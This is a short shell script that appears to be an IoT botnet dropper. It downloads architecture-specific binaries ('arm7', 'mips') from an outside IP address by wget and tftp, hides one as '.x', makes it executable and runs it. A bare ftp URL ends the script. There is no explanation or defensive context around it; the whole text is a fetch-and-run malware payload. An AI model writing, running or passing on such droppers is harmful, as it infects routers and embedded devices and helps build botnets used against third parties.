#!/bin/sh
cd /tmp || cd /var/run; wget http://198.51.100.23/bins/arm7 -O .x; chmod 777 .x; ./.x telnet.arm
tftp -g -r mips 198.51.100.23; ftp://user@update.example.com/x
